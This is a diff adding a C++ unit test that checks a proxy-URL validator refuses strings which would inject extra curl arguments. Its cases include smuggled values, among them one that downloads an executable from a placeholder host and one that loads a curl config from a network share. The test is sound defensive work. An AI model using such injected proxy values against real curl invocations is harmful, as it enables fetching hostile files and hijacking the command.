@@ -93,6 +93,31 @@ TEST(CurlProbe, CommandLineAndProxyRewrite) {
             L"\"C:\\windows\\system32\\curl.exe\" --max-time 10 -sS -x socks5h://u:p@h:1 https://g/geoip?format=json");
 }
 
+TEST(CurlProbe, ProxyUrlsThatWouldAddCurlArgumentsAreRefused) {
+  // 0: accepted; otherwise the 1-based byte the refusal names.
+  const std::pair<std::string, int> cases[] = {
+      {"socks5://u:p@203.0.113.5:1080", 0},
+      {"socks5://", 0},
+      {"socks5://us%20r:p\\w'x@h\xC3\xA9:1", 0},
+      {"socks5://u:p@203.0.113.5:1080 -o vantrel-engine.exe http://203.0.113.5/e.exe", 30},
+      {"socks5://h:1\t-K \\\\host\\share\\c.txt", 13},
+      {"socks5://h:1\" -m 0", 13},
+      {"socks5://h:1\n", 13},
+      {std::string("socks5://h\0:1", 14), 11},
+      {"socks5://h:1\x7F", 13},
+  };
+  for (const auto& [proxy, byte] : cases) {
+    const std::string refusal = proxy_url_refusal(proxy);
+    if (byte == 0) {
+      EXPECT_EQ(refusal, "") << proxy;
+    } else {
+      EXPECT_EQ(refusal, "proxy URL refused: byte " + std::to_string(byte) +
+                             " is a blank, tab, double quote or control character, which a URL cannot hold; "
+                             "curl was not run") << proxy;
+    }
+  }
+}
+
 TEST(CurlProbe, ExitCodeClassesAndMessages) {
   const std::pair<std::int32_t, const char*> cases[] = {
       {7, "PROXY_UNREACHABLE"}, {28, "PROXY_TIMEOUT"}, {56, "PROXY_AUTH_FAILED"}, {67, "PROXY_AUTH_FAILED"},
